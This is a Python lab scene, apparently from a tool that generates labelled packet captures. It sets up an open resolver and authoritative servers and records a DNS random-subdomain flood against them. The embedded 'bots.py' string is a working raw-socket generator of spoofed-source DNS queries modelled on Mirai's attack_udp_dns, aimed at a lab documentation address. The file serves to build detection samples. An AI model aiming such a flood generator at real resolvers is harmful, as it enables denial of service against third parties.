"""What befalls resolvers: questions for names that nobody has."""

import pathlib
import time

from lab import LAB, Capture, Host, Lab
from registry import Sample, scene

RESOLVER, OUTSIDE, AUTHORITY = '192.0.2.53', '192.0.2.1', '192.0.2.99'

# What Mirai's attack_udp_dns sends, from invented addresses as its other attacks do: twelve random letters and digits below the domain of the victim, at a rate.
BOTS = '''import random, socket, struct, sys, time
domain, count, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
chance, target = random.Random(count), socket.inet_aton("192.0.2.53")
for _ in range(count):
    label = "".join(chance.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12))
    name = b"".join(bytes([len(part)]) + part.encode() for part in [label, *domain.split(".")]) + bytes(1)
    dns = struct.pack(">6H", chance.randrange(65536), 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    udp = struct.pack(">4H", chance.randrange(1024, 65536), 53, 8 + len(dns), 0) + dns
    source = bytes([198, 18 + chance.randrange(2), chance.randrange(256), chance.randrange(1, 255)])
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), chance.randrange(65536), 0, 64, 17, 0) + source + target
    raw.sendto(ip + udp, ("192.0.2.53", 0))
    time.sleep(1 / rate)
'''
UNBOUND = '''server:
  interface: 0.0.0.0
  access-control: 0.0.0.0/0 allow
  do-daemonize: no
  username: ""
  chroot: ""
  pidfile: ""
  use-syslog: no
  do-ip6: no
  module-config: "iterator"
  root-hints: ""
  outbound-msg-retry: 1
  do-not-query-localhost: no
  local-zone: "example.com." transparent
stub-zone:
  name: "example.net."
  stub-addr: {authority}
stub-zone:
  name: "example.com."
  stub-addr: {authority}
'''


def resolver(lab: Lab) -> tuple[Host, Host, Host, Host]:
    """A switch, an open resolver (unbound) on it, the world outside, and the servers of two domains."""
    switch = lab.switch()
    hosts = []
    for name, address, mac in (('resolver', RESOLVER, '02:00:5e:00:53:53'), ('outside', OUTSIDE, '02:00:5e:00:53:01'), ('authority', AUTHORITY, '02:00:5e:00:53:99')):
        host = lab.host(name)
        lab.plug(host, switch, mac)
        host.address(f'{address}/24')
        hosts.append(host)
    hosts[0].route(OUTSIDE)
    config = LAB / 'unbound.conf'
    config.write_text(UNBOUND.format(authority=AUTHORITY))
    hosts[0].spawn('unbound', '-d', '-c', str(config))
    hosts[0].wait_for_port(53)
    return switch, *hosts


@scene(Sample(
    'dns-random-names.pcap', 'An open resolver (unbound) is asked for random names below example.net from invented addresses, until the servers of that domain say no more.',
    'Three hundred questions, each for another name from another address; at first the servers of the domain answer that there is no such name, then they fall silent and the resolver fails. '
    'Somebody else looks up www.example.com meanwhile.',
    ['`udp-flood`, technique dns-random-names: 192.0.2.53 port 53, below example.net (ATT&CK T1499.002)', 'no `dns-tunnel`, no `dga`, no `service-enumeration`'],
    ['dns.flags.response == 0 && ip.dst == 192.0.2.53 | the questions', 'dns.flags.rcode == 2 | the resolver fails', 'ip.dst == 192.0.2.99 | what it asks the servers of the domain']))
def dns_random_names(lab: Lab) -> None:
    switch, _, outside, authority = resolver(lab)
    script = pathlib.Path(lab.folder) / 'bots.py'
    script.write_text(BOTS)
    servers = authority.spawn('dnsmasq', '--keep-in-foreground', '--conf-file=/dev/null', '--no-hosts', '--no-resolv', '--local=/example.net/', '--local=/example.com/',
                              '--host-record=www.example.com,192.0.2.80', '--host-record=www.example.net,192.0.2.81', '--user=root')
    authority.wait_for_port(53)
    with Capture(switch, 'dns-random-names.pcap', 'tcpdump', '-i', 'br0'):
        outside.run('dig', '+tries=1', '+time=2', '@192.0.2.53', 'www.example.com')
        outside.run('python3', str(script), 'example.net', '100', '60', show='python3 bots.py example.net 100 60  # 100 random names from invented addresses, 60 a second')
        servers.terminate()
        authority.quiet('ip', 'link', 'set', 'eth0', 'down')
        outside.run('python3', str(script), 'example.net', '200', '60', show='python3 bots.py example.net 200 60')
        time.sleep(10)
